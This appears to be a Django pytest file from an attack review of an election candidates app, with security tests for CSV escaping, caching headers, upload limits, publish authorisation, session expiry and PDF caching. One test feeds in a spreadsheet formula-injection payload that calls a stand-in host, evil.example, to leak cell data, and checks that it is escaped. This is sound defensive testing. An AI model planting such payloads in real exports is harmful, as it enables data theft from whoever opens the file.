@@ -1,0 +1,168 @@
+"""Attack review (December 2026): what an outsider tried against the candidates app's
+public and staff surfaces, each through the public interface (docs/reviews/2026-12-attack.md)."""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from amanat.candidates.models import FinalList, FinalListEntry, State
+from amanat.candidates.tests import review_factories as f
+from amanat.candidates.tests.conftest import World
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
+
+
+def _published(world: World, **names: Any) -> FinalList:
+    race = world.city_council
+    seat = world.city(world.geo.gharchak_city)
+    c = f.candidacy(contest=race, constituency=seat, county=world.geo.gharchak,
+                    state=State.QUALIFIED, **names)
+    final = FinalList.objects.create(contest=race, constituency=seat,
+                                     published_at=datetime.datetime(2026, 1, 20,
+                                                                    tzinfo=datetime.UTC))
+    FinalListEntry.objects.create(final_list=final, candidacy=c, ballot_order=1,
+                                  ballot_name=f"{c.first_name} {c.last_name}",
+                                  withdrawn_at=datetime.datetime(2026, 1, 21,
+                                                                 tzinfo=datetime.UTC),
+                                  withdrawal_note="+1-2")
+    return final
+
+
+def test_public_final_list_csv_does_not_carry_formulas(world: World) -> None:
+    """A name typed in the public registration form reaches the public CSV: a cell a
+    spreadsheet would run is escaped (the apostrophe every export uses)."""
+    final = _published(world, first_name=FORMULA, last_name="@SUM(1)")
+    text = Client().get(reverse("public_final_list_csv", args=[final.pk])).content.decode()
+    rows = list(csv.reader(line for line in io.StringIO(text.lstrip("\ufeff"))
+                           if not line.startswith("#")))
+    assert rows[1][1] == "'" + FORMULA + " @SUM(1)"
+    assert rows[1][5] == "'+1-2"
+
+
+def test_registration_pages_with_the_visitors_data_are_not_stored(world: World,
+                                                                  client: Client) -> None:
+    """Signed out, the registration steps show the candidate's mobile number and tracking
+    code from their session: no shared cache or browser history may keep them."""
+    from amanat.candidates.tests.conftest import nid
+    from amanat.candidates.tests.test_registration import _code, _person, _start
+
+    assert "no-store" not in client.get(reverse("candidates:register")).get(
+        "Cache-Control", "")
+    assert _start(client, world, nid(21)).status_code == 302
+    page = client.get(reverse("candidates:register_confirm"))
+    assert 'name="code"' in page.content.decode()
+    assert page["Cache-Control"] == "private, no-store"
+    response = client.post(reverse("candidates:register_confirm"), _person(
+        code=_code(), constituency=world.city(world.geo.gharchak_city).pk))
+    assert response.status_code == 302
+    page = client.get(reverse("candidates:register_documents"))
+    assert page.status_code == 200 and page["Cache-Control"] == "private, no-store"
+    # A public page that reads nothing of the visitor keeps its caching.
+    assert "no-store" not in Client().get(reverse("public_final_lists")).get(
+        "Cache-Control", "")
+
+
+def test_online_uploads_are_limited_per_document_type(world: World, client: Client) -> None:
+    """One registration code must not let a visitor store files without end (every
+    upload is kept as the dossier's history)."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from amanat.candidates.models import Document, DocumentType
+    from amanat.candidates.services import PUBLIC_UPLOADS_PER_TYPE
+    from amanat.candidates.tests.conftest import nid
+    from amanat.candidates.tests.test_registration import _register_online
+
+    assert _register_online(client, world, nid(22)).status_code == 302
+    photo = DocumentType.objects.get(contest_kind="city_council", code="photo")
+    url = reverse("candidates:register_documents")
+    for i in range(PUBLIC_UPLOADS_PER_TYPE):
+        upload = SimpleUploadedFile(f"p{i}.png", b"\x89PNG\r\n\x1a\n" + bytes([i]) * 64)
+        assert client.post(url, {"document_type": photo.pk, "file": upload}
+                           ).status_code == 302
+    upload = SimpleUploadedFile("more.png", b"\x89PNG\r\n\x1a\n" + b"x" * 64)
+    response = client.post(url, {"document_type": photo.pk, "file": upload},
+                           HTTP_ACCEPT_LANGUAGE="en")
+    assert response.status_code == 200
+    assert Document.objects.count() == PUBLIC_UPLOADS_PER_TYPE
+
+
+def test_a_final_list_is_published_only_for_a_constituency_of_its_contest(
+        world: World) -> None:
+    """The contest and the constituency both come from the publish URL: an executive
+    board member must not publish an (empty) final list of another contest."""
+    from amanat.accounts.models import Role
+    from amanat.accounts.testing import sign_in
+    from amanat.elections.models import ContestKind
+
+    today = datetime.date.today()
+    f.calendar(world.election, closes=today - datetime.timedelta(days=5),
+               complaints_close=today - datetime.timedelta(days=2))
+    village = world.contest(ContestKind.VILLAGE_COUNCIL)
+    seat = world.city(world.geo.gharchak_city)  # a city: not in the village contest
+    assert not village.constituencies.filter(pk=seat.pk).exists()
+    board = Client()
+    sign_in(board, f.member("board_publisher", Role.EXECUTIVE_BOARD, world.geo.gharchak))
+    url = reverse("candidates_review:publish", args=[village.pk, seat.pk])
+    assert board.post(url).status_code == 302
+    assert not FinalList.objects.filter(published_at__isnull=False).exists()
+    # The city contest's own list is published.
+    url = reverse("candidates_review:publish", args=[world.city_council.pk, seat.pk])
+    assert board.post(url).status_code == 302
+    assert FinalList.objects.get(published_at__isnull=False).contest == world.city_council
+
+
+def test_the_documents_step_ends_when_the_visitor_leaves(
+        world: World, client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
+    """On a shared computer the next person, in the same browser session (hours long),
+    must not reach the last candidate's dossier page and upload into it."""
+    from django.conf import settings
+    from django.utils import timezone
+
+    from amanat.candidates.tests.conftest import nid
+    from amanat.candidates.tests.test_registration import _register_online
+
+    assert _register_online(client, world, nid(23)).status_code == 302
+    url = reverse("candidates:register_documents")
+    assert client.get(url).status_code == 200
+    later = timezone.now() + datetime.timedelta(
+        seconds=settings.AMANAT_SESSION_IDLE_SECONDS + 60)
+    monkeypatch.setattr(timezone, "now", lambda: later)
+    response = client.get(url)
+    assert response.status_code == 302 and response["Location"] == reverse(
+        "candidates:register")
+
+
+def test_the_public_pdf_is_drawn_once_per_version_of_the_list(
+        world: World, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The public PDF costs a second or more of CPU: repeating the request must not draw
+    it again (anyone could keep the workers busy); a withdrawal draws the new version."""
+    from django.core.cache import cache
+
+    from amanat.candidates import review_pdf
+
+    cache.clear()
+    drawn: list[int] = []
+    real = review_pdf.html_to_pdf
+
+    def counting(*args: Any, **kwargs: Any) -> bytes:
+        drawn.append(1)
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(review_pdf, "html_to_pdf", counting)
+    final = _published(world)
+    url = reverse("public_final_list_pdf", args=[final.pk])
+    first = Client().get(url)
+    assert first.status_code == 200 and first.content.startswith(b"%PDF")
+    again = Client().get(url)
+    assert again.content == first.content and len(drawn) == 1
+    FinalListEntry.objects.filter(final_list=final).update(withdrawn_at=None)
+    assert Client().get(url).status_code == 200 and len(drawn) == 2
